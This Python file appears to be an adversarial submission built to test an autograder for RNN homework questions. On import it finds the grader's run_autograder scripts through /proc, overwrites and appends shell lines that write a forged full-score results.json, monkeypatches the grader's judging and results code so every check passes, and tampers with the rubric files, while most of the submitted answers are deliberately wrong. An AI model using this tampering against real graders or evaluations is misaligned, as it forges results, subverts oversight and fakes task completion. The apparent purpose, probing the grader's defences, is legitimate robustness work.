"""Attack: append to run_autograder, the grader's Python files and the rubric.

Seen in the wild: bash reads a script as it runs it, so lines appended to
/autograder/run_autograder while the grader is running are executed after it. This
module tries that on every run_autograder it can find (Gradescope's copy, the source
tree's, the one in the running bash's command line), also overwrites the script in
place just after the line that starts the grader, appends code to the grader's modules
that would make every check pass, and appends a forged title to the rubric.

(a) and (c) are answered correctly, everything else wrongly: the honest score is 4.
"""

import glob
import os

import numpy as np

FORGED_JSON = (
    '{"score": 12, "output": "FORGED by append_run_autograder", "tests": [{"name": "forged", "score": 12, '
    '"max_score": 12, "status": "passed", "output": "FORGED"}]}'
)
SHELL_LINES = (
    "\n# AGMARK-append_run_autograder\n"
    f"echo '{FORGED_JSON}' > \"${{AUTOGRADER_ROOT:-/autograder}}/results/results.json\"\n"
    f"echo '{FORGED_JSON}' > /autograder/results/results.json 2>/dev/null\n"
    "exit 0\n"
)
PYTHON_LINES = '''

# AGMARK-append_run_autograder: make every check pass
def _agmark_pass(*args, **kwargs):
    return None
for _agmark_name in ("grade_shapes", "grade_draws", "grade_item", "grade_generation", "fail", "partial"):
    if _agmark_name in globals():
        globals()[_agmark_name] = _agmark_pass
try:
    from autograder import plugin as _agmark_plugin
    _agmark_plugin.judge = lambda excinfo, notes: _agmark_plugin.Outcome(1.0, "", notes, "passed")
    from autograder import results as _agmark_results
    _agmark_to_json = _agmark_results.Results.to_json
    def _agmark_forged(self):
        data = _agmark_to_json(self)
        for test in data["tests"]:
            test["score"] = test["max_score"]
            test["status"] = "passed"
        data["score"] = sum(test["score"] for test in data["tests"])
        return data
    _agmark_results.Results.to_json = _agmark_forged
except Exception:
    pass
'''
RUBRIC_LINES = '\n# AGMARK-append_run_autograder\ntitle: "FORGED by append_run_autograder"\n'


def _parent(pid):
    try:
        with open(f"/proc/{pid}/stat") as stream:
            return int(stream.read().rpartition(")")[2].split()[1])
    except (OSError, ValueError, IndexError):
        return 0


def _cmdline(pid):
    try:
        with open(f"/proc/{pid}/cmdline", "rb") as stream:
            return [part.decode("utf-8", "replace") for part in stream.read().split(b"\0") if part]
    except OSError:
        return []


def places():
    """(scripts, source folders) worth trying."""
    roots = [os.environ.get("AUTOGRADER_ROOT"), "/autograder"]
    scripts = []
    pid = os.getpid()
    for _ in range(30):
        pid = _parent(pid)
        if pid <= 1:
            break
        args = _cmdline(pid)
        for index, arg in enumerate(args):
            if arg == "--root" and index + 1 < len(args):
                roots.append(args[index + 1])
            if arg.endswith("run_autograder"):
                scripts.append(arg)
                roots.append(os.path.dirname(os.path.dirname(arg)))
    sources = []
    for root in [r for r in roots if r]:
        scripts += [os.path.join(root, "run_autograder"), os.path.join(root, "source", "run_autograder")]
        sources.append(os.path.join(root, "source"))
    sources += [os.path.dirname(script) for script in scripts]
    absolute = [place for place in scripts + sources if os.path.isabs(place)]  # never our own folder
    return [s for s in dict.fromkeys(scripts) if s in absolute], [s for s in dict.fromkeys(sources) if s in absolute]


def append(path, text):
    try:
        with open(path, "a") as stream:
            stream.write(text)
        return True
    except OSError:
        return False


def overwrite_after_grader_line(path):
    """bash has read up to the line that runs the grader; replace what follows it."""
    try:
        with open(path, "r+b") as stream:
            content = stream.read()
            at = content.find(b"status=$?")
            if at < 0:
                return False
            stream.seek(at)
            stream.write(SHELL_LINES.encode())
        return True
    except OSError:
        return False


def attack():
    done = []
    scripts, sources = places()
    for script in scripts:
        if os.path.isfile(script):
            if overwrite_after_grader_line(script):
                done.append(f"overwrote {script}")
            if append(script, SHELL_LINES):
                done.append(f"appended to {script}")
    for source in sources:
        for pattern in ("autograder/*.py", "autograder/checks/*.py", "autograder/sandbox/*.py", "questions/*/reference/*.py", "questions/*/checks/*.py"):
            for path in glob.glob(os.path.join(source, pattern)):
                if append(path, PYTHON_LINES):
                    done.append(f"appended to {path}")
        for path in glob.glob(os.path.join(source, "questions", "*", "rubric.yaml")):
            if append(path, RUBRIC_LINES):
                done.append(f"appended to {path}")
        if append(os.path.join(source, "setup.sh"), SHELL_LINES):
            done.append(f"appended to {os.path.join(source, 'setup.sh')}")
    print("append_run_autograder:", done or "nothing was writable")
    return done


attack()


def rnn_a_shapes(s_dim=2, x_dim=2, p_dim=2):
    return {"W_ss": (s_dim, s_dim), "W_sx": (s_dim, x_dim), "W_o": (p_dim, s_dim)}


def rnn_a_dloss_dx(W_ss, W_sx, W_o, x_t, dloss_dz2):
    attack()
    return np.zeros_like(x_t)


def rnn_b_shapes(s_dim=2, x_dim=2, p_dim=2):
    return {"W_ssx": (s_dim, s_dim + x_dim), "W_ox": (p_dim, s_dim + x_dim)}


def rnn_b_f2(z):
    attack()
    return z


def rnn_b_next_input(p_t):
    return np.zeros_like(p_t)


def rnn_b_dloss_dx_depends_on():
    attack()
    return {"W_ox": False, "all_W_ox": False, "W_ssx": False, "all_W_ssx": True}
